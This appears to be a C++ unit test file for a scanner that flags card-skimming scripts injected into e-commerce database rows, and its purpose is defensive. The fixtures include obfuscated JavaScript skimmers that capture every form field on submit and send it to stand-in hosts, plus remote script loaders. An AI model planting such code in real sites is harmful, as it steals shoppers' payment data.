// The stored-script judgement (classify.cc): a script in a database row is judged by the web
// root's behaviour analysis, as a file is, plus what only a row tells (a script from a host
// that is neither the store's nor a known service's, code where a value should hold none).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "storedb/storedb.h"
#include "webroot/normalize.h"

namespace tq::storedb {
namespace {

const std::vector<std::string> kOwn = {"shop.example.test"};

int WebrootStrength(std::string_view content) {
  webroot::NormalizedCode nc = webroot::Normalize(content, webroot::CodeKind::kHtml);
  int best = 0;
  for (const webroot::CodeTrait& t : nc.traits)
    if (t.alone && t.target_host.empty()) best = std::max(best, t.strength);
  return best;
}

TEST(StoredScriptJudgement, ASkimmerInACmsBlockIsJudgedAsInAFile) {
  // Card fields read on the payment step and posted to a host the code spells in \x escapes:
  // no host in clear text, no card keyword a list would catch.
  const std::string cms =
      "<p>Secure checkout</p><script>var w=window,d=w.document;d.addEventListener('submit',"
      "function(){var n=d.querySelectorAll('input,select'),v='';for(var i=0;i<n.length;i++)"
      "v+=n[i].name+'='+n[i].value+'&';w['fetch']('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f"
      "\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\\x63',{method:'POST',body:btoa(v)});"
      "},true);</script>";
  ScriptScore s = ScoreStoredScript(cms, kOwn);
  EXPECT_GE(s.score, 4) << (s.reasons.empty() ? "" : s.reasons[0]);
  ASSERT_FALSE(s.reasons.empty());
  EXPECT_NE(s.reasons[0].find("sends them out"), std::string::npos) << s.reasons[0];
  EXPECT_EQ(WebrootStrength(cms), 4);
}

TEST(StoredScriptJudgement, BareCodeInAConfigValue) {
  // design/footer/absolute_footer holding code without a tag: every field read on submit and
  // sent as a beacon to a host built from character codes.
  const std::string value =
      "var u=String.fromCharCode(104,116,116,112,115,58,47,47,99,46,101,120,97,109,112,108,"
      "101,47,99);window.addEventListener('submit',function(){var f=document."
      "querySelectorAll('input');var d='';for(var i=0;i<f.length;i++){d+=f[i].value}"
      "navigator.sendBeacon(u,d)},true);";
  EXPECT_GE(ScoreStoredScript(value, kOwn).score, 4);
}

TEST(StoredScriptJudgement, CardWordsBesideTheStoresOwnCodeAreNotASkimmer) {
  // A help block naming the CVV beside a script that calls the store's own API: card words
  // and fetch( in one row, nothing sent anywhere but the store.
  const std::string help =
      "<p>Your CVV is the three digits on the back of your card.</p><script>fetch("
      "'/rest/V1/directory/countries').then(function(r){return r.json();}).then(function(c)"
      "{document.getElementById('cc').textContent=c.length;});</script>";
  EXPECT_LT(ScoreStoredScript(help, kOwn).score, kInjectedScriptThreshold);
  // The real analytics tag, and the store's card form posting to itself.
  EXPECT_LT(ScoreStoredScript("<script async src=\"https://www.googletagmanager.com/gtag/js?"
                              "id=G-1\"></script><script>window.dataLayer=window.dataLayer||[];"
                              "function gtag(){dataLayer.push(arguments);}gtag('js',new Date());"
                              "</script>",
                              kOwn)
                .score,
            kInjectedScriptThreshold);
  EXPECT_LT(ScoreStoredScript("<form action=\"https://shop.example.test/pay\"><input "
                              "name=\"cardnumber\"><input name=\"cvc\"></form>",
                              kOwn)
                .score,
            kInjectedScriptThreshold);
}

TEST(StoredScriptJudgement, RowOnlyTraitsStay) {
  // A card form posting elsewhere (the web root's form judgement) and a script from a host
  // nobody knows (what the row scorer adds).
  ScriptScore form = ScoreStoredScript(
      "<form action=\"https://pay.example.top/p\"><input name=\"cardnumber\"><input "
      "name=\"cvc\"></form>",
      kOwn);
  EXPECT_GE(form.score, 3);
  ASSERT_FALSE(form.reasons.empty());
  EXPECT_NE(form.reasons[0].find("pay.example.top"), std::string::npos) << form.reasons[0];
  ScriptScore src =
      ScoreStoredScript("<script src=\"https://lib.example.top/x.js\"></script>", kOwn);
  EXPECT_GE(src.score, kInjectedScriptThreshold);
  ASSERT_EQ(src.foreign_hosts.size(), 1u);
  EXPECT_EQ(src.foreign_hosts[0], "lib.example.top");
  // The same load written as code, and the store's own host loaded the same way.
  EXPECT_GE(
      ScoreStoredScript("<script>var s=document.createElement('script');s.src="
                        "'https://lib.example.top/p.js';document.head.appendChild(s)</script>",
                        kOwn)
          .score,
      kInjectedScriptThreshold);
  EXPECT_LT(ScoreStoredScript("<script>var s=document.createElement('script');s.src="
                              "'https://shop.example.test/p.js';document.head.appendChild(s)"
                              "</script>",
                              kOwn)
                .score,
            kInjectedScriptThreshold);
}

}  // namespace
}  // namespace tq::storedb
